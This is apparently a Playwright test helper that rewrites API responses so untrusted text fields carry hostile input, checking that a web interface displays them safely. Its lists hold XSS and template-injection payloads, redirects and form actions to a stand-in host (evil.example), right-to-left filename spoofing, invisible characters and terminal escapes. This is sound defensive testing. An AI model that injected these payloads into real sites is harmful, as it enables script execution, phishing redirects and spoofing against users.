/** What somebody would put where a name or a reason is shown; and a browser that is told it instead of every text a person or a machine chose. */
import type { Page } from 'playwright-core';

/** Each tries to run something, to load something from elsewhere, or to be taken for a part of the page. */
export const MARKUP = [
  `<script>window.__ran = 'script'</script>`,
  `<img src=x onerror="window.__ran='onerror'">`,
  `"><svg/onload=window.__ran='onload'>`,
  `<iframe srcdoc="<script>parent.__ran='srcdoc'</script>"></iframe>`,
  `<a href="javascript:window.__ran='href'">click</a>`,
  `javascript:window.__ran='url'`,
  `<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>`,
  `<form action=https://evil.example/><input name=x></form><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `{{constructor.constructor('window.__ran=1')()}} \${window.__ran=2} <%= window.__ran=3 %>`,
  `__proto__`,
];
/** Right-to-left and isolates without their end, invisible letters, a terminal's colours, control characters, marks on marks. */
export const READING_ORDER = ['\u202Egnp.exe', '\u2067\u202Eabc', 'pay\u200Bpal\u2060\uFEFF\u00AD', '\u001B[31mred\u001B[2J\u0007', '\u0000\u0008\u009B1m', `Z${'\u0335\u0311\u033D'.repeat(40)}`, '\u{E0001}\u{E0041}', '\u2028\u2029\u0085x'].map((text) => `\u202E${text}`);
/** Without a place to break it. */
export const LONG = 'W'.repeat(1_000_000);

/** Members of answers that a person or a machine has chosen the text of. Ids, codes and times are held to their shape by the client. */
const CHOSEN = new Set(['name', 'reason', 'operator', 'says', 'platform', 'agent_version', 'version', 'by', 'ended_operator', 'document_id', 'consent_document_id', 'operator_note', 'user_agent', 'address', 'does', 'created_by', 'title', 'hint', 'command', 'actor']);
/** Of a step it says which kind of somebody it was, and is held to these. */
const KINDS = ['operator', 'server', 'agent', 'tenant'];
const CHOSEN_LISTS = new Set(['details', 'capabilities', 'cameras', 'fields', 'problems']);

/** Every answer of the API is the server's own, but for the texts in it. `first`: only what stands first in each list. */
export async function withTexts(page: Page, texts: readonly string[], { first = false } = {}): Promise<void> {
  let n = 0;
  const next = () => texts[n++ % texts.length] ?? '';
  const isChosen = (name: string, member: unknown): boolean => typeof member === 'string' && CHOSEN.has(name) && !(name === 'by' && KINDS.includes(member));
  const told = (value: unknown, key: string, isFirst: boolean): unknown => {
    if (Array.isArray(value)) return value.map((one: unknown, i) => (typeof one === 'string' && CHOSEN_LISTS.has(key) && (!first || i === 0) ? next() : told(one, '', i === 0)));
    if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([name, member]) => [name, isChosen(name, member) && (!first || isFirst) ? next() : told(member, name, isFirst)]));
    return value;
  };
  await page.route(/\/(v1|support|readyz)(\/(?!live)|$)/, async (route) => {
    const answer = await route.fetch();
    const body: unknown = await answer.json().catch(() => null);
    await route.fulfill(body === null ? { response: answer } : { response: answer, json: told(body, '', true) });
  });
}
